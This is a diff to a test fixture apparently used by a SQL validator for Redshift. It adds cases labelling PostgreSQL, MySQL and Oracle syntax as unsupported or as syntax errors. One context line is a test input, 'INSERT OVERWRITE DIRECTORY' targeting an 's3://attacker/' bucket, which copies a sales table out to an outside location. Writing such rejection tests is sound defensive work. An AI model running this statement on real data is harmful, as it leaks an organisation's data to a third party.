@@ -550,7 +550,7 @@ DISCARD ALL
 --- unsupported: LISTEN
 LISTEN ch
 
---- read_only/unsupported: INSERT OVERWRITE DIRECTORY writes files, not a table
+--- unsupported: INSERT OVERWRITE DIRECTORY writes files, not a table
 INSERT OVERWRITE DIRECTORY 's3://attacker/' SELECT * FROM sales
 
 --- external: CREATE TABLE with a LOCATION option
@@ -822,3 +822,36 @@ select :"x" from t
 
 --- ambiguous_sql: the same with a space
 select : "x" from t
+
+--- unsupported: RETURNING (PostgreSQL's; the local stack would answer rows Redshift never does)
+INSERT INTO owned.t (a) VALUES (1) RETURNING a
+
+--- unsupported: ON CONFLICT (PostgreSQL's upsert; Redshift's is MERGE)
+INSERT INTO owned.t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2
+
+--- unsupported: UPDATE ... ORDER BY ... LIMIT (MySQL's)
+UPDATE owned.t SET a = 1 ORDER BY a LIMIT 1
+
+--- unsupported: DELETE ... RETURNING
+DELETE FROM owned.t WHERE a = 1 RETURNING *
+
+--- unsupported: MERGE ... RETURNING
+MERGE INTO owned.t USING public.sales s ON t.a = s.id WHEN MATCHED THEN DELETE RETURNING *
+
+--- syntax: an UPDATE that sets nothing
+UPDATE owned.t AS x
+
+--- syntax: an INSERT with nothing to insert
+INSERT INTO owned.t (a)
+
+--- unsupported: CREATE OR REPLACE TABLE (Redshift replaces views only)
+CREATE OR REPLACE TABLE owned.t (a int)
+
+--- unsupported: ALTER TABLE IF EXISTS (PostgreSQL's)
+ALTER TABLE IF EXISTS owned.t ADD COLUMN c int
+
+--- unsupported: TRUNCATE ... RESTART IDENTITY (PostgreSQL's)
+TRUNCATE owned.t RESTART IDENTITY
+
+--- unsupported: DROP TABLE ... PURGE (Oracle's)
+DROP TABLE owned.t PURGE
